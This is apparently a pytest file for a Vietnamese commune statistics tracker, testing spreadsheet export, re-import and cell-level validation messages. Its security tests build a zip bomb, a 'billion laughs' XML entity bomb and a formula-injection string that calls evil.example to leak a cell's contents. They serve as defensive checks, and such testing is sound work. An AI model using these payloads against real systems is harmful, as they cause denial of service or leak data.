"""The statistics spreadsheet: written and read back without a database; every problem names its cell."""

import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest
from openpyxl import load_workbook

from tests.test_domain_stats import BA_DINH
from tracker.domain.stats import FIELD_NAMES, FINANCE_FIELDS
from tracker.render.spreadsheet import (
    MAX_UNZIPPED_BYTES,
    MAX_XLSX_BYTES,
    SHARES_SHEET,
    SHEET,
    PeriodKey,
    read_stats_workbook,
    stats_workbook,
)

INFO = {"commune_code": "ngok-bay", "commune_name": "Xã Ngọk Bay", "kind": "week", "kind_label": "Tuần",
        "start_date": date(2025, 10, 27), "end_date": date(2025, 11, 3)}
STATS = {**{name: None for name in FIELD_NAMES}, **BA_DINH,
         "late_reasons": "Đường truyền chập chờn", "override_explanation": None}
FINANCE = {**{name: None for name in FINANCE_FIELDS}, "estimate": 650_000_000, "approved": 600_000_000,
           "dx_spending": 410_000_000, "total_local_spending": 28_500_000_000,
           "disbursed_for": "Mua máy tính cho bộ phận một cửa"}
CELLS = read_stats_workbook(stats_workbook(INFO, STATS, FINANCE)).cells


def exported() -> bytes:
    return stats_workbook(INFO, STATS, FINANCE)


def edited(changes: dict[str, object], data: bytes | None = None) -> bytes:
    """The exported file with some cells (``D20`` or a field name) set to new values."""
    book = load_workbook(io.BytesIO(data or exported()))
    sheet = book[SHEET]
    for where, value in changes.items():
        sheet[CELLS.get(where, where)] = value
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def unzipped(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def zipped(parts: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def messages(data: bytes) -> list[str]:
    return [p.message for p in read_stats_workbook(data).problems]


def test_ba_dinh_round_trip():
    parsed = read_stats_workbook(exported())
    assert parsed.problems == []
    assert parsed.period_key == PeriodKey("ngok-bay", "week", date(2025, 10, 27))
    assert parsed.stats == {name: STATS[name] for name in FIELD_NAMES}
    assert parsed.finance == {name: FINANCE[name] for name in FINANCE_FIELDS}
    assert parsed.texts == {"late_reasons": "Đường truyền chập chờn", "override_explanation": None,
                            "disbursed_for": "Mua máy tính cho bộ phận một cửa"}


def test_the_sheet_is_laid_out_for_people():
    book = load_workbook(io.BytesIO(exported()))
    sheet = book[SHEET]
    assert sheet["B4"].value == datetime(2025, 10, 27)
    assert sheet["B4"].number_format == "DD/MM/YYYY"
    assert [c.value for c in sheet[8]] == ["Mã trường", "Chỉ tiêu", "Đơn vị", "Giá trị"]
    assert sheet["A8"].font.bold
    assert sheet.freeze_panes == "A9"
    total = sheet[CELLS["dossiers_new_total"]]
    assert (total.value, total.number_format) == (65, "#,##0")
    assert sheet.cell(total.row, 2).value == "Hồ sơ tiếp nhận mới trong kỳ"
    assert sheet.cell(total.row, 3).value == "hồ sơ"
    assert sheet.cell(sheet[CELLS["estimate"]].row, 3).value == "đồng"
    ratios = {row[0]: row[2] for row in book[SHARES_SHEET].iter_rows(min_row=4, values_only=True)}
    assert ratios["tthc_active_online_full"] == "2,10% (03/143 TTHC)"
    assert ratios["dossiers_new_online_full"] == "24,62% (16/65 hồ sơ)"


def test_an_empty_period_exports_empty_cells():
    parsed = read_stats_workbook(stats_workbook(INFO, {}, {}))
    assert parsed.problems == []
    assert set(parsed.stats.values()) == {None}
    assert set(parsed.texts.values()) == {None}


def test_vietnamese_numbers_typed_as_text_are_accepted():
    parsed = read_stats_workbook(edited({"estimate": "1.234.000", "dossiers_new_total": " 65 "}))
    assert parsed.problems == []
    assert parsed.finance["estimate"] == 1_234_000
    assert parsed.stats["dossiers_new_total"] == 65


@pytest.mark.parametrize(("value", "text"), [
    ("bảy", "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): 'bảy' không phải là số"),
    ("1,5", "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): 1,5 không phải là số nguyên."),
    (7.5, "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): 7,5 không phải là số nguyên."),
    (-3, "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): không được âm (-3)."),
    (True, "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): 'TRUE' không phải là số."),
    (datetime(2025, 1, 1), "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): ô chứa ngày tháng"),
    (10**8, "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): số quá lớn (100.000.000); chỉ nhận từ 0 đến 10.000.000."),
    (1e300, "Ô D20 (Hồ sơ tiếp nhận mới trong kỳ): số quá lớn (?); chỉ nhận từ 0 đến 10.000.000."),
])
def test_a_bad_number_names_its_cell_and_field(value, text):
    assert CELLS["dossiers_new_total"] == "D20"
    problems = read_stats_workbook(edited({"dossiers_new_total": value})).problems
    assert len(problems) == 1
    assert (problems[0].cell, problems[0].field) == ("D20", "dossiers_new_total")
    assert problems[0].message.startswith(text)


def test_money_may_not_have_fractions():
    assert messages(edited({"estimate": 1000.5})) == [
        f"Ô {CELLS['estimate']} (Dự toán kinh phí thực hiện các nhiệm vụ): 1.000,5 không phải là số đồng "
        "(không có phần lẻ)."]


def test_every_problem_is_reported_at_once():
    found = messages(edited({"dossiers_new_total": "bảy", "resolved_late": "x", "A30": "khong_co"}))
    assert len(found) == 4, found  # two cells, the unknown key and the row it no longer holds
    assert any("Ô D27 (Hồ sơ đã giải quyết quá hạn): 'x'" in m for m in found)


def test_wrong_or_missing_header_columns():
    assert messages(edited({"D8": "Số liệu"})) == ["Thiếu cột 'Giá trị' ở dòng 8."]
    assert messages(edited({"E8": "Giá trị"})) == ["Cột 'Giá trị' có nhiều lần ở dòng 8 (D8, E8)."]
    assert "Không tìm thấy dòng tiêu đề có cột 'Mã trường'" in messages(edited({"A8": "Mã"}))[0]


def test_unknown_duplicated_and_missing_keys():
    unknown = read_stats_workbook(edited({"A20": "dossiers_new"})).problems
    assert unknown[0].cell == "A20"
    assert unknown[0].message == ("Ô A20: mã trường 'dossiers_new' không có trong mẫu; không sửa cột "
                                  "'Mã trường'.")
    assert unknown[1].message.startswith("Thiếu dòng của mã trường 'dossiers_new_total' (Hồ sơ tiếp nhận")
    assert messages(edited({"A21": "dossiers_new_total"}))[0] == (
        "Ô A21: mã trường 'dossiers_new_total' lặp lại (đã có ở ô A20).")
    assert "không có mã trường" in messages(edited({"A50": None, "D50": 5}))[0]


def test_the_period_key_must_be_there():
    assert messages(edited({"B6": "ngok-bay|week|27/10/2025"})) == [
        "Ô B6: mã kỳ báo cáo 'ngok-bay|week|27/10/2025' không hợp lệ; hãy dùng tệp xuất từ hệ thống."]
    assert "Không tìm thấy ô mã kỳ báo cáo" in messages(edited({"A6": None}))[0]


def test_a_formula_never_calculated_is_flagged_and_a_calculated_one_read():
    data = edited({"dossiers_new_total": "=D21+D24+D25"})
    problems = read_stats_workbook(data).problems
    assert [(p.cell, p.field) for p in problems] == [("D20", "dossiers_new_total")]
    assert "công thức chưa được tính" in problems[0].message
    # A spreadsheet program stores the value it calculated next to the formula.
    parts = unzipped(data)
    sheet = parts["xl/worksheets/sheet1.xml"]
    # openpyxl writes the empty value as <v />, <v></v> or nothing, depending on whether lxml is installed.
    formula = re.compile(rb"<f>D21\+D24\+D25</f>(<v\s*/>|<v></v>)?")
    assert formula.search(sheet)
    parts["xl/worksheets/sheet1.xml"] = formula.sub(b"<f>D21+D24+D25</f><v>65</v>", sheet)
    parsed = read_stats_workbook(zipped(parts))
    assert parsed.problems == []
    assert parsed.stats["dossiers_new_total"] == 65


@pytest.mark.parametrize("data", [
    b"", b"Ma truong,Gia tri\ndossiers_new_total,65\n", b"%PDF-1.4\n%%EOF\n", b"PK\x03\x04broken",
    zipped({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<x/>"}),
])
def test_files_that_are_not_xlsx(data):
    assert messages(data) == ["Tệp không phải bảng tính Excel .xlsx."]


def test_a_broken_workbook_inside_a_zip_is_refused():
    assert "không đọc được nội dung" in messages(zipped({"[Content_Types].xml": b"<Types/>",
                                                           "xl/workbook.xml": b"<x/>"}))[0]


def test_a_workbook_without_the_sheet():
    book_bytes = edited({})
    book = load_workbook(io.BytesIO(book_bytes))
    book[SHEET].title = "Sheet1"
    buffer = io.BytesIO()
    book.save(buffer)
    assert messages(buffer.getvalue()) == ["Không có trang 'Số liệu'; hãy dùng tệp xuất từ hệ thống."]


def test_size_limits_and_zip_bombs():
    assert messages(b"PK\x03\x04" + b"\x00" * MAX_XLSX_BYTES) == ["Tệp lớn hơn 5 MB."]
    parts = unzipped(exported())
    bomb = zipped({**parts, "xl/media/padding.bin": b"\x00" * (MAX_UNZIPPED_BYTES + 1)})
    assert len(bomb) < MAX_XLSX_BYTES, "small on disk"
    assert "quá lớn (trên 50 MB khi giải nén)" in messages(bomb)[0]


def test_xml_entity_bombs_are_not_expanded():
    parts = unzipped(exported())
    laughs = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10))
              + b"]>")
    parts["xl/workbook.xml"] = laughs + parts["xl/workbook.xml"].split(b"?>", 1)[-1]
    assert "không đọc được nội dung" in messages(zipped(parts))[0]


def test_openpyxl_parses_xml_through_defusedxml():
    assert openpyxl.DEFUSEDXML, "defusedxml must be installed (a dependency of the project)"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")', "=1+1",
                                  "+84 912 345 678", "-5 hồ sơ trễ", "@SUM(A1:A2)"])
def test_typed_text_is_written_as_text_never_as_a_formula(text):
    """Finding 12.8: a reason starting with "=" was written as a live formula (and failed re-import)."""
    data = stats_workbook({**INFO, "commune_name": text}, {**STATS, "late_reasons": text},
                          {**FINANCE, "disbursed_for": text})
    for sheet_xml in (v for k, v in unzipped(data).items() if k.startswith("xl/worksheets/")):
        assert b"<f>" not in sheet_xml, "no cell of the workbook is a formula"
    book = load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    cell = book[SHEET][CELLS["late_reasons"]]
    assert (cell.value, cell.data_type) == (text, "s")
    assert cell.quotePrefix, "Excel keeps it text even when the cell is edited"
    assert book[SHEET]["B2"].value == text
    parsed = read_stats_workbook(data)
    assert parsed.problems == []
    assert parsed.texts["late_reasons"] == text
    assert parsed.texts["disbursed_for"] == text
